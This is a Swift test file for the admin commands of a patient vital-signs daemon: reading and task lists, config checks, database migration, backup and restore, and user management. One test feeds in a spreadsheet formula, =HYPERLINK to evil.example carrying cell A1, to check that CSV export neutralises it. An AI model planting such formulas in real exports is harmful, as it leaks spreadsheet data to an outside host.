import Foundation
import GRDB
import Testing
import VitalsConfig
import VitalsDaemon
import VitalsDomain
import VitalsFormats
import HummingbirdBcrypt
import VitalsStore

/// The admin commands, run as an operator would run them.
@Suite("admin commands")
struct CommandLineTests {
    /// Runs `vitalsd ARGUMENTS --config …`.
    /// - Returns: the exit code, standard error (`output`) and standard output.
    func run(_ env: TestEnvironment, _ arguments: [String], environment: [String: String] = [:]) async throws
        -> (code: Int32?, output: String, stdout: String)
    {
        let log = env.directory + "/cli-\(UUID().uuidString.prefix(6))"
        let p = try ChildProcess(path: try vitalsdBinary(), arguments: arguments + ["--config", env.configPath], logPath: log + ".err",
                                 outputPath: log + ".out", extraEnvironment: environment)
        _ = await p.waitForExit(seconds: 120)
        return (p.exitCode, (try? String(contentsOfFile: log + ".err", encoding: .utf8)) ?? "",
                (try? String(contentsOfFile: log + ".out", encoding: .utf8)) ?? "")
    }

    /// Every object key in a JSON document, at any depth.
    func jsonKeys(_ text: String) throws -> [String] {
        func walk(_ v: Any) -> [String] {
            if let d = v as? [String: Any] { return d.keys.map { $0 } + d.values.flatMap(walk) }
            if let a = v as? [Any] { return a.flatMap(walk) }
            return []
        }
        return walk(try JSONSerialization.jsonObject(with: Data(text.utf8)))
    }

    @Test("reading list: newest first, times in the patient's zone, --since a local date, --type")
    func readingList() async throws {
        let env = try await TestEnvironment()  // p1 lives in America/Chicago (UTC−6 in November)
        let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
        for (value, at) in [(100, "2026-11-28T13:10:00Z"), (182, "2026-11-29T05:59:00Z"), (95, "2026-11-29T13:10:00Z")] {
            _ = try env.database.ingestBlocking([IncomingMessage(
                topic: "devices/g1/readings", deviceID: "g1",
                payload: Array(#"{"type":"glucose","value":\#(value),"unit":"mg/dL","measured_at":"\#(at)"}"#.utf8),
                receivedAt: MeasurementTimePolicy.parseRFC3339(at)!.addingTimeInterval(60))], pipeline: pipeline)
        }
        let all = try await run(env, ["reading", "list", "--patient", "p1"])
        #expect(all.code == 0, "\(all.output)")
        let lines = all.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first?.hasPrefix("measured_at (America/Chicago)") == true)
        // 13:10Z is 07:10 in Chicago; 05:59Z on the 29th is still the 28th there (23:59).
        #expect(lines.dropFirst().map { String($0.prefix(25)) } == [
            "2026-11-29T07:10:00-06:00", "2026-11-28T23:59:00-06:00", "2026-11-28T07:10:00-06:00"])
        #expect(lines[1].contains("glucose") && lines[1].contains("95") && lines[1].contains("g1"))
        // Since the 29th in Chicago (06:00Z): only the 95.
        let since = try await run(env, ["reading", "list", "--patient", "p1", "--since", "2026-11-29"])
        #expect(since.stdout.split(separator: "\n").count == 2 && since.stdout.contains("2026-11-29T07:10:00-06:00"))
        let none = try await run(env, ["reading", "list", "--patient", "p1", "--type", "heart_rate"])
        #expect(none.stdout.split(separator: "\n").count == 1)
        let json = try await run(env, ["reading", "list", "--patient", "p1", "--limit", "1", "--format", "json"])
        #expect(Set(try jsonKeys(json.stdout)) == ["id", "device_id", "type", "value", "unit", "canonical_value", "canonical_unit",
                                                  "measured_at", "received_at", "source", "flags", "time_source"])
    }

    @Test("task list: unresolved by default, --status, --limit, --since; 120 columns; no direction on late-data tasks")
    func taskList() async throws {
        let env = try await TestEnvironment()
        let long = "patient-with-a-very-long-identifier-0123456789"
        try env.database.upsertPatient(Patient(id: long, timezone: "UTC", programs: [.diabetes]), actor: "test")
        try env.database.upsertDevice(Device(id: "gl", kind: .glucometer, patientID: long), actor: "test")
        let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
        let now = Date()
        func reading(_ device: String, _ value: Int, measuredHoursAgo: Double) -> IncomingMessage {
            IncomingMessage(topic: "devices/\(device)/readings", deviceID: device,
                            payload: glucoseJSON(Double(value), at: Int64((now.timeIntervalSince1970 - measuredHoursAgo * 3_600) * 1000)),
                            receivedAt: now)
        }
        // p1: a critical low now (threshold task), later resolved; the long-id patient: a critical high
        // now and a low measured 30 h ago (late: a late-data review task).
        _ = try env.database.ingestBlocking([reading("g1", 45, measuredHoursAgo: 0.5)], pipeline: pipeline)
        _ = try env.database.ingestBlocking([reading("gl", 450, measuredHoursAgo: 0.5), reading("gl", 40, measuredHoursAgo: 30)],
                                            pipeline: pipeline)
        let p1Task = try #require(try env.database.tasks(patientID: "p1").first)
        _ = try env.database.resolveTask(id: p1Task.id, by: "nurse")

        let table = try await run(env, ["task", "list"])
        #expect(table.code == 0, "\(table.output)")
        let lines = table.stdout.split(separator: "\n").map(String.init)
        #expect(lines.count == 3)  // header and the two unresolved tasks
        #expect(lines.allSatisfy { $0.count <= 120 }, "\(lines.map(\.count))")
        #expect(lines.contains { $0.contains("glucose high") })
        let lateLine = try #require(lines.first { $0.contains("late_data") })
        #expect(!lateLine.contains("late_data high") && !lateLine.contains(" high "))
        #expect(lines.dropFirst().allSatisfy { $0.contains("patient-with-…") })

        let all = try await run(env, ["task", "list", "--status", "all", "--format", "csv"])
        #expect(all.stdout.split(separator: "\n").count == 4)
        let one = try await run(env, ["task", "list", "--status", "all", "--limit", "1", "--format", "csv"])
        #expect(one.stdout.split(separator: "\n").count == 2)
        let later = try await run(env, ["task", "list", "--since", "2999-01-01"])
        #expect(later.stdout.split(separator: "\n").count == 1)
        let json = try await run(env, ["task", "list", "--format", "json"])
        let tasks = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
        #expect(tasks.first { $0["kind"] as? String == "late_data" }?["direction"] is NSNull)
        #expect(tasks.first { $0["kind"] as? String == "threshold" }?["direction"] as? String == "high")
    }

    @Test("JSON output uses snake_case keys in every command")
    func snakeCaseJSON() async throws {
        let env = try await TestEnvironment()
        _ = try env.database.ingestBlocking(
            [IncomingMessage(topic: "devices/nobody/readings", deviceID: "nobody", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date()),
             IncomingMessage(topic: "devices/g1/readings", deviceID: "g1", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date())],
            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        _ = try env.database.startEpisode(patientID: "p1", startDate: LocalDate(Date().addingTimeInterval(-86_400), in: TimeZone(identifier: "America/Chicago")!),
                                          practitioner: "Dr. A", actor: "test")
        let snake = try Regex("^[a-z0-9_]+$")
        for command in [["dead-letters", "list"], ["stats"], ["task", "list"], ["task", "show", "1"], ["audit", "list"],
                        ["patient", "list"], ["device", "list"], ["episode", "list"], ["time", "list", "--patient", "p1"]] {
            let r = try await run(env, command + ["--format", "json"])
            #expect(r.code == 0, "\(command): \(r.output)")
            let keys = try jsonKeys(r.stdout)
            #expect(!keys.isEmpty || command.contains("time"), "\(command)")
            #expect(keys.allSatisfy { $0.wholeMatch(of: snake) != nil }, "\(command): \(keys.filter { $0.wholeMatch(of: snake) == nil })")
        }
    }

    @Test("an error says what is wrong without the usage block; --help names VITALSD_CONFIG")
    func errorsAndHelp() async throws {
        let env = try await TestEnvironment()
        let missing = try await run(env, ["patient", "show", "nobody"])
        #expect(missing.code == 1)
        #expect(missing.output == "vitalsd: patient nobody is not enrolled\n", "\(missing.output)")
        let bad = try await run(env, ["task", "list", "--status", "bogus"])
        #expect(bad.code != 0 && !bad.output.lowercased().contains("usage:"), "\(bad.output)")
        #expect(bad.output.contains("bogus") && bad.output.contains("Run the command with --help for its options."))
        let help = try await run(env, ["task", "list", "--help"])
        #expect(help.code == 0 && help.stdout.contains("$VITALSD_CONFIG"), "\(help.stdout)")
        // --version: the release, and the schema this build brings (what an upgrade would migrate).
        let version = try await run(env, ["--version"])
        #expect(version.code == 0)
        #expect(version.stdout.hasPrefix(BuildInfo.version + " (SQLite schema: \(AppDatabase.migrationNames.count) migrations, last \""))
        #expect(version.stdout.contains("; PostgreSQL schema: 6 migrations, last \"6 dead-letter digests\")\n"))
        #expect(BuildInfo.version.split(separator: ".").count == 3 && BuildInfo.version.split(separator: ".").allSatisfy { Int($0) != nil })
    }

    @Test("CSV exports neutralise formulas: an actor =HYPERLINK(...) is text in audit list --format csv")
    func csvInjection() async throws {
        let env = try await TestEnvironment()
        let actor = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
        #expect(try await run(env, ["patient", "add", "--id", "csv1", "--timezone", "UTC", "--program", "diabetes", "--by", actor]).code == 0)
        let audit = try await run(env, ["audit", "list", "--format", "csv"])
        #expect(audit.code == 0)
        // Quoted (it holds commas and quotes), with the leading ' that makes it text.
        #expect(audit.stdout.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")","#), "\(audit.stdout)")
        #expect(!audit.stdout.contains(#","=HYPERLINK"#))
    }

    @Test("config check prints a threshold whose unit is ambiguous as a warning, and passes")
    func configWarning() async throws {
        let env = try await TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
        let schema = { try await env.database.writer.read { try Int.fetchOne($0, sql: "PRAGMA schema_version") } }
        let before = try await schema()
        let r = try await run(env, ["config", "check"])
        #expect(r.code == 0)
        #expect(try await schema() == before)  // the check reads the database, never writes it
        #expect(r.output.contains("warning: thresholds.defaults.body_weight.critical_high: 250 is read as 250 kg, but as [lb_av]"), "\(r.output)")
        // And the missing escalation backup.
        #expect(r.output.contains("warning: alerts.escalation_backup_user: not set (nor escalation_backup_role)"), "\(r.output)")
        #expect(r.stdout.contains("configuration ok: \(env.configPath) (2 warnings)"))
    }

    @Test("config check leaves a database the new build would migrate unchanged, and says so")
    func configPendingMigration() async throws {
        let env = try await TestEnvironment()
        // As an older build left it: the newest migration not recorded.
        let last = try #require(try await env.database.writer.read {
            try String.fetchOne($0, sql: "SELECT identifier FROM grdb_migrations ORDER BY rowid DESC LIMIT 1")
        })
        try await env.database.writer.write { try $0.execute(sql: "DELETE FROM grdb_migrations WHERE identifier = ?", arguments: [last]) }
        let r = try await run(env, ["config", "check"])
        #expect(r.code == 0, "\(r.output)")
        #expect(r.output.contains("warning: database.path: the next start of the daemon upgrades the schema (1 migration: \(last));"), "\(r.output)")
        let recorded = try await env.database.writer.read {
            try Int.fetchOne($0, sql: "SELECT count(*) FROM grdb_migrations WHERE identifier = ?", arguments: [last])
        }
        #expect(recorded == 0)
    }

    @Test("an admin command of a newer build is refused while a daemon runs on the older schema; db backup copies it unchanged")
    func commandBeforeRestart() async throws {
        let env = try await TestEnvironment()
        let path = env.config.database.path
        // As an older build left it: the newest migration not recorded. A daemon holds the lock.
        let last = try #require(try await env.database.writer.read {
            try String.fetchOne($0, sql: "SELECT identifier FROM grdb_migrations ORDER BY rowid DESC LIMIT 1")
        })
        try await env.database.writer.write { try $0.execute(sql: "DELETE FROM grdb_migrations WHERE identifier = ?", arguments: [last]) }
        let lock = try DatabaseLock(databasePath: path)
        defer { lock.release() }

        let refused = try await run(env, ["task", "list"])
        #expect(refused.code == 1, "\(refused.output)")
        #expect(refused.output.contains("this vitalsd would upgrade the schema of \(path) (1 migration: \(last)), but a daemon (pid \(getpid())) runs on it with an older build; restart the daemon with this build first"), "\(refused.output)")
        #expect(refused.stdout.isEmpty)

        // The backup before the upgrade, taken with the new binary: a copy of the schema as it is.
        let backup = env.directory + "/before-upgrade.sqlite"
        let copied = try await run(env, ["db", "backup", backup])
        #expect(copied.code == 0, "\(copied.output)")
        for file in [path, backup] {
            let queue = try DatabaseQueue(path: file)
            let recorded = try await queue.read {
                try Int.fetchOne($0, sql: "SELECT count(*) FROM grdb_migrations WHERE identifier = ?", arguments: [last])
            }
            #expect(recorded == 0, "\(file)")
            try queue.close()
        }
    }

    @Test("db migrate lists, applies and records the migrations of a database left by an older build, and waits for a running daemon")
    func migrate() async throws {
        let env = try await TestEnvironment()
        // A database that no migration has touched yet: every migration of this build is pending.
        let path = env.directory + "/old.sqlite"
        try DatabaseQueue(path: path).close()
        let elsewhere = ["VITALSD_DATABASE_PATH": path]
        let count = try AppDatabase.pendingMigrations(path: path).count
        #expect(count >= 20)

        let dry = try await run(env, ["db", "migrate", "--dry-run"], environment: elsewhere)
        #expect(dry.code == 0, "\(dry.output)")
        #expect(dry.stdout.hasPrefix("this build would apply \(count) migrations to \(path):\n"), "\(dry.stdout)")
        #expect(try AppDatabase.pendingMigrations(path: path).count == count)

        let lock = try DatabaseLock(databasePath: path)
        let busy = try await run(env, ["db", "migrate"], environment: elsewhere)
        lock.release()
        #expect(busy.code == 1)
        #expect(busy.output.contains("\(path) is in use by a running vitalsd (pid \(getpid())): stop it first"), "\(busy.output)")
        #expect(try AppDatabase.pendingMigrations(path: path).count == count)

        let done = try await run(env, ["db", "migrate", "--by", "ops.anna"], environment: elsewhere)
        #expect(done.code == 0, "\(done.output)")
        #expect(done.stdout.hasPrefix("applied \(count) migrations to \(path):\n"), "\(done.stdout)")
        #expect(try AppDatabase.pendingMigrations(path: path).isEmpty)
        let entry = try #require(try AppDatabase.open(path: path).auditEntries().last)
        #expect(entry.action == "database.migrated" && entry.actor == "ops.anna")
        let again = try await run(env, ["db", "migrate"], environment: elsewhere)
        #expect(again.code == 0 && again.stdout == "the schema of \(path) is up to date\n", "\(again.stdout)")
        let none = try await run(env, ["db", "migrate"], environment: ["VITALSD_DATABASE_PATH": env.directory + "/none.sqlite"])
        #expect(none.code == 1 && none.output.contains("there is no database at"), "\(none.output)")
    }

    @Test("time list shows a timer's entry by its seconds, as billing counts it, and typed minutes as minutes")
    func timeListLengths() async throws {
        let env = try await TestEnvironment()
        let end = Date()
        _ = try env.database.startEpisode(patientID: "p1", startDate: LocalDate(end.addingTimeInterval(-86_400), in: TimeZone(identifier: "UTC")!),
                                          practitioner: "Dr. A", actor: "test")
        _ = try env.database.logTime(NewTimeEntry(patientID: "p1", program: .rpm, seconds: 5, end: end, performedBy: "ana",
                                                  activity: "chart review", modality: nil))
        _ = try env.database.logTime(NewTimeEntry(patientID: "p1", program: .rpm, seconds: 125, end: end, performedBy: "ana",
                                                  activity: "chart review", modality: nil))
        _ = try env.database.logTime(NewTimeEntry(patientID: "p1", minutes: 15, performedBy: "ana", activity: "call"))
        let listed = try await run(env, ["time", "list", "--patient", "p1", "--format", "csv"])
        #expect(listed.code == 0, "\(listed.output)")
        let lengths = listed.stdout.split(whereSeparator: \.isNewline).dropFirst().map { $0.split(separator: ",")[3] }
        #expect(lengths.sorted() == ["15 min", "2 min 5 s", "5 s"])
        #expect(listed.stdout.hasPrefix("id,performed_at,program,time,"))
    }

    @Test("db restore puts a backup in place, moves the database it replaces aside with its WAL, and is refused while a daemon runs")
    func restore() async throws {
        let env = try await TestEnvironment()
        let path = env.config.database.path
        let backup = env.directory + "/backup.sqlite"
        #expect(try await run(env, ["db", "backup", backup]).code == 0)
        // Written after the backup, and still in the live database's WAL (the test's connection is open).
        _ = try env.database.upsertPatient(Patient(id: "after-backup", timezone: "UTC", programs: [.diabetes]), actor: "test")
        #expect(FileManager.default.fileExists(atPath: path + "-wal"))

        // Not a database: refused, nothing moved.
        let junk = env.directory + "/junk.sqlite"
        try Data(repeating: 0x42, count: 4096).write(to: URL(fileURLWithPath: junk))
        let refused = try await run(env, ["db", "restore", junk])
        #expect(refused.code == 1)
        #expect(refused.output.contains("junk.sqlite cannot be read as a database"), "\(refused.output)")
        #expect(try AppDatabase.open(path: path).patient(id: "after-backup") != nil)

        // A daemon holds the lock: refused.
        let lock = try DatabaseLock(databasePath: path)
        let busy = try await run(env, ["db", "restore", backup])
        #expect(busy.code == 1)
        #expect(busy.output.contains("is in use by another vitalsd: stop it first (systemctl stop vitalsd)"), "\(busy.output)")
        lock.release()

        // Another connection is in the middle of a write past the busy timeout: refused, nothing moved.
        let writer = try HeldWriteLock(path: path)
        #expect(await writer.start())
        let writing = try await run(env, ["db", "restore", backup], environment: ["VITALSD_DATABASE_BUSY_TIMEOUT_SECONDS": "0.2"])
        try await writer.release()
        #expect(writing.code == 1)
        #expect(writing.output.contains("is being written by another connection"), "\(writing.output)")
        #expect(try AppDatabase.open(path: path).patient(id: "after-backup") != nil)

        let done = try await run(env, ["db", "restore", backup, "--by", "ops.anna"])
        #expect(done.code == 0, "\(done.output)")
        let aside = try #require(done.stdout.split(separator: "\n").compactMap { line -> String? in
            guard let r = line.range(of: "the database it replaced is at ") else { return nil }
            return String(line[r.upperBound...].prefix { $0 != " " })
        }.first)
        #expect(aside.hasPrefix(path + ".before-restore-"))
        let restored = try AppDatabase.open(path: path)
        #expect(try restored.patient(id: "after-backup") == nil)
        #expect(try restored.patient(id: "p1") != nil)
        let trail = try restored.auditEntries()
        let entry = try #require(trail.last)
        #expect(entry.action == "database.restored" && entry.actor == "ops.anna")
        // The trail survives the restore: the entry written after the backup is carried over, once.
        #expect(trail.filter { $0.action == "patient.create" && $0.targetID == "after-backup" }.count == 1)
        #expect(done.stdout.contains("carried over from it: 1 audit trail and 0 access log entries written after the backup"), "\(done.stdout) \(done.output)")
        // The replaced database opens as it was, its WAL included.
        #expect(try AppDatabase.open(path: aside).patient(id: "after-backup") != nil)
    }

    @Test("db restore refuses a directory at database.path and follows a symbolic link to the database")
    func restorePaths() async throws {
        let env = try await TestEnvironment()
        let backup = env.directory + "/backup.sqlite"
        try env.database.backup(to: backup)
        let shared = env.directory + "/shared"
        try FileManager.default.createDirectory(atPath: shared, withIntermediateDirectories: false)
        #expect(throws: DatabaseRestore.Failure.self) { _ = try DatabaseRestore.restore(backup: backup, to: shared, now: Date()) }
        var isDirectory: ObjCBool = false
        #expect(FileManager.default.fileExists(atPath: shared, isDirectory: &isDirectory) && isDirectory.boolValue)

        let link = env.directory + "/link.sqlite"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: env.config.database.path)
        let result = try DatabaseRestore.restore(backup: backup, to: link, now: Date())
        #expect(result.path == DatabaseLock.resolvedPath(env.config.database.path))
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == env.config.database.path)
        #expect(throws: DatabaseRestore.Failure.self) { _ = try DatabaseRestore.restore(backup: link, to: env.config.database.path, now: Date()) }
    }

    @Test("a web TLS key under /run/credentials (there only inside the service) stops neither admin commands nor config's parse; config check names it")
    func credentialKey() async throws {
        let cert = NSTemporaryDirectory() + "vitalsd-cert-\(UUID().uuidString).pem"
        try "-----BEGIN CERTIFICATE-----\nMA==\n-----END CERTIFICATE-----\n".write(toFile: cert, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: cert) }
        let env = try await TestEnvironment(extraYAML: """
            web:
              enabled: true
              tls_cert_file: \(cert)
              tls_key_file: /run/credentials/vitalsd.service/web-key-\(UUID().uuidString)
            """)
        let list = try await run(env, ["patient", "list"])
        #expect(list.code == 0, "\(list.output)")
        let check = try await run(env, ["config", "check"])
        #expect(check.code == 2)
        #expect(check.output.contains("web.tls_key_file: file /run/credentials/vitalsd.service/web-key-"), "\(check.output)")
    }

    @Test("config check fails while alerts.escalation_backup_user names nobody or a disabled user, and passes once it is enabled")
    func escalationBackupUser() async throws {
        let env = try await TestEnvironment(extraYAML: "alerts:\n  escalation_backup_user: dr.backup\n")
        let missing = try await run(env, ["config", "check"])
        #expect(missing.code == 2)
        #expect(missing.output.contains("alerts.escalation_backup_user: no workspace user has this name"), "\(missing.output)")
        // Under the same header as other refused configurations, and no empty `vitalsd: ` line after it.
        #expect(missing.output.hasPrefix("vitalsd: configuration refused:\n"), "\(missing.output)")
        #expect(!missing.output.contains("vitalsd: \n") && !missing.output.hasSuffix("vitalsd: "), "\(missing.output)")
        _ = try env.database.addUser(
            username: "dr.backup", displayName: "Dr. Backup", role: .clinician, passwordHash: "$2b$12$" + String(repeating: "a", count: 53),
            actor: "test")
        try env.database.setUserDisabled(username: "dr.backup", disabled: true, actor: "test")
        let disabled = try await run(env, ["config", "check"])
        #expect(disabled.code == 2)
        #expect(disabled.output.contains("alerts.escalation_backup_user: this workspace user is disabled"), "\(disabled.output)")
        try env.database.setUserDisabled(username: "dr.backup", disabled: false, actor: "test")
        let ok = try await run(env, ["config", "check"])
        #expect(ok.code == 0, "\(ok.output)")

        let role = try await TestEnvironment(extraYAML: "alerts:\n  escalation_backup_role: clinician\n")
        let noClinician = try await run(role, ["config", "check"])
        #expect(noClinician.code == 2)
        #expect(noClinician.output.contains("alerts.escalation_backup_role: no enabled workspace user has this role"), "\(noClinician.output)")
    }

    @Test("dead-letters replay stores the readings of a device enrolled later, once")
    func deadLetterReplay() async throws {
        let env = try await TestEnvironment()
        let ms = msAgo(3_600)
        _ = try env.database.ingestBlocking(
            [IncomingMessage(topic: "devices/late1/readings", deviceID: "late1", payload: glucoseJSON(120, at: ms), receivedAt: Date())],
            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        try env.database.upsertDevice(Device(id: "late1", kind: .glucometer, patientID: "p1"), actor: "test")
        let first = try await run(env, ["dead-letters", "replay", "--reason", "unknown_device", "--since", "2020-01-01", "--by", "ops.a"])
        #expect(first.code == 0, "\(first.output)")
        #expect(first.stdout.contains("replayed 1 messages (1 dead letters): 1 readings stored, 0 already stored, 0 tasks opened"), "\(first.stdout)")
        #expect(first.stdout.contains("resolved: 1; still failing: none; new dead letters: none"))
        let again = try await run(env, ["dead-letters", "replay"])
        #expect(again.stdout.contains("replayed 0 messages (0 dead letters): 0 readings stored"), "\(again.stdout)")
        #expect(try env.statistics().readings == 1)
        let bad = try await run(env, ["dead-letters", "replay", "--since", "yesterday"])
        #expect(bad.code != 0 && bad.output.contains("--since must be RFC 3339 or YYYY-MM-DD"))
    }

    /// Runs a command; returns its exit code and standard output.
    func output(_ env: TestEnvironment, _ arguments: [String]) async throws -> (code: Int32?, output: String) {
        let name = env.directory + "/cli-\(UUID().uuidString.prefix(6))"
        let p = try ChildProcess(path: try vitalsdBinary(), arguments: arguments + ["--config", env.configPath],
                                 logPath: name + ".log", outputPath: name + ".out")
        _ = await p.waitForExit(seconds: 30)
        return (p.exitCode, (try? String(contentsOfFile: name + ".out", encoding: .utf8)) ?? "")
    }

    @Test("task note adds a note without a status change; task show lists notes, latest and worst; patient show the suppressed breaches")
    func notesAndSuppression() async throws {
        let env = try await TestEnvironment()
        let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
        let at = msAgo(3_600)
        func glucose(_ value: Double, _ offset: Int64) -> IncomingMessage {
            IncomingMessage(topic: "devices/g1/readings", deviceID: "g1", payload: glucoseJSON(value, at: at + offset), receivedAt: Date())
        }
        _ = try env.database.ingestBlocking([glucose(260, 0)], pipeline: pipeline)
        _ = try env.database.ingestBlocking([glucose(270, 60_000)], pipeline: pipeline)
        let task = try #require(try env.database.tasks().first)
        let noted = try await run(env, ["task", "note", String(task.id), "--by", "nurse.a", "--text", "left a voicemail"])
        #expect(noted.code == 0)
        let second = try await run(env, ["task", "note", String(task.id), "--by", "nurse.b", "--text", "patient called back"])
        #expect(second.code == 0)
        #expect(try env.database.task(id: task.id)?.task.status == .open)
        let shown = try await output(env, ["task", "show", String(task.id)])
        #expect(shown.output.contains("nurse.a: left a voicemail"))
        #expect(shown.output.contains("nurse.b: patient called back"))
        #expect(shown.output.contains("latest:       Glucose 270 mg/dL, measured "))
        #expect(shown.output.contains("worst:        Glucose 270 mg/dL, measured "))
        _ = try env.database.resolveTask(id: task.id, by: "nurse.a")
        _ = try env.database.ingestBlocking([glucose(262, 120_000)], pipeline: pipeline)
        let patient = try await output(env, ["patient", "show", "p1"])
        #expect(patient.output.contains("#\(task.id) glucose high: 1, last measured "))
    }

    @Test("a patient limit that would cross the program's other limit is refused")
    func inconsistentThreshold() async throws {
        let env = try await TestEnvironment()
        // Default glucose critical_low is 54: a warning_low of 50 would sit below it.
        let refused = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                          "--direction", "low", "--value", "50", "--by", "dr.x"])
        #expect(refused.code != 0)
        #expect(refused.output.contains("warning_low must not be below critical_low"))
        #expect(try env.database.thresholdOverrides(patientID: "p1").isEmpty)
        // A plain decimal number only: 0x41 (65), 6.5e1 and nan are refused, as from a device.
        for value in ["0x41", "6.5e1", "nan"] {
            let notDecimal = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                                 "--direction", "low", "--value", value, "--by", "dr.x"])
            #expect(notDecimal.code != 0 && notDecimal.output.contains("'\(value)' is not a plain decimal number"), "\(notDecimal.output)")
        }
        #expect(try env.database.thresholdOverrides(patientID: "p1").isEmpty)
        // 3.3 mmol/L = 59.4594 mg/dL is a valid warning_low.
        let ok = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                     "--direction", "low", "--value", "3.3", "--unit", "mmol/L", "--by", "dr.x"])
        #expect(ok.code == 0)
        #expect(try env.database.thresholdOverrides(patientID: "p1").values.first == 59.4594)
    }

    @Test("a trend rule can be changed or switched off for one patient, never for a rule that does not apply")
    func ruleOverride() async throws {
        let env = try await TestEnvironment()
        // p1 is in program diabetes: the heart-failure weight rules do not apply.
        let refused = try await run(env, ["threshold", "rule", "--patient", "p1", "--rule", "weight_gain_7d", "--off"])
        #expect(refused.code != 0)
        #expect(refused.output.contains("no rule 'weight_gain_7d' applies to patient p1; rules in force: none"))
        try env.database.upsertPatient(Patient(id: "hf2", timezone: "UTC", programs: [.heartFailure]), actor: "test")
        let ok = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--bound", "2", "--by", "dr.x"])
        #expect(ok.code == 0)
        #expect(try env.database.ruleOverrides(patientID: "hf2")["weight_gain_7d"] == RuleOverride(bound: 2, disabled: false))
        let negative = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--bound=-1"])
        #expect(negative.output.contains("a delta bound must be above 0"))
        _ = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--clear"])
        #expect(try env.database.ruleOverrides(patientID: "hf2").isEmpty)
        #expect(try env.database.auditEntries().contains { $0.action == "rule.override" })
    }

    @Test("users: the password comes from a file, never an argument; disable ends sessions and releases tasks")
    func users() async throws {
        let env = try await TestEnvironment()
        let file = env.directory + "/password"
        try "correct horse battery 9\nsecond line ignored\n".write(toFile: file, atomically: true, encoding: .utf8)
        let added = try await run(env, ["user", "add", "--username", "Ana", "--name", "Ana Ruiz, RN", "--role", "care_manager",
                                        "--password-file", file, "--by", "admin"])
        #expect(added.code == 0)
        let short = env.directory + "/short"
        try "hunter2\n".write(toFile: short, atomically: true, encoding: .utf8)
        let refused = try await run(env, ["user", "add", "--username", "bo", "--name", "Bo", "--role", "clinician", "--password-file", short])
        #expect(refused.code != 0 && refused.output.contains("at least 12 characters"))
        #expect(try await run(env, ["user", "add", "--username", "bo", "--name", "Bo", "--role", "clinician", "--password", "x"]).code != 0)
        let hash = try #require(try await env.database.credentials(username: "ana")?.passwordHash)
        #expect(hash.hasPrefix("$2b$12$"))
        #expect(Bcrypt.verify("correct horse battery 9", hash: hash))

        #expect(try await run(env, ["patient", "assign", "--patient", "p1", "--care-manager", "ana", "--by", "admin"]).code == 0)
        #expect(try env.database.patient(id: "p1")?.careManager == "ana")
        _ = try await env.database.ingest([IncomingMessage(
            topic: "devices/g1/readings", deviceID: "g1",
            payload: Array(#"{"type":"glucose","value":45,"unit":"mg/dL","measured_at":\#(Int64(Date().timeIntervalSince1970 * 1000) - 60_000)}"#.utf8),
            receivedAt: Date())], pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        #expect(try env.database.tasks().first?.owner == "ana")
        #expect(try await run(env, ["user", "disable", "ana", "--by", "admin"]).code == 0)
        #expect(try env.database.tasks().first?.owner == nil)
        #expect(try env.database.user(username: "ana")?.disabled == true)
        let reset = try await run(env, ["user", "reset-password", "ana", "--password-file", file])
        #expect(reset.code == 0)
        let actions = try env.database.auditEntries().map(\.action)
        #expect(actions.contains("user.create") && actions.contains("patient.assign") && actions.contains("user.disable")
                && actions.contains("user.reset_password"))
        #expect(!(try env.database.auditEntries().contains { ($0.detail ?? "").contains("horse") }))
    }

    @Test("device status and device events list telemetry and sentinels, which are not readings")
    func deviceStatusAndEvents() async throws {
        let env = try await TestEnvironment()
        let payload = #"[{"metric":"blood_pressure","hwi_device_id":"g1","value_1":2047,"value_2":2047,"timestamp":"2026-01-05T10:00:00Z"},{"metric":"battery_percentage","hwi_device_id":"g1","value_1":"64","timestamp":"2026-01-05T10:00:00Z"}]"#
        let summary = try env.database.ingestBlocking(
            [IncomingMessage(topic: "vendors/tenovi", deviceID: nil, payload: Array(payload.utf8), receivedAt: Date(),
                             format: .tenovi, matchedSubscription: true)],
            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        #expect(summary.deviceEvents == 2 && summary.deviceStatusUpdated == 1 && summary.readingsStored == 0)
        // The commands run (their table goes to standard output, which `run` discards) …
        #expect(try await run(env, ["device", "status", "--device", "g1"]).code == 0)
        #expect(try await run(env, ["device", "events", "--format", "csv"]).code == 0)
        // … over these rows.
        let status = try env.database.deviceStatus(deviceID: "g1")
        #expect(status.map(\.name) == ["battery_percent"] && status.map(\.value) == [64])
        let events = try env.database.deviceEvents().map { "\($0.kind) \($0.type ?? "-") \($0.code)" }
        #expect(Set(events) == ["device_error systolic_bp sfloat_nan", "device_error diastolic_bp sfloat_nan"])
    }
}
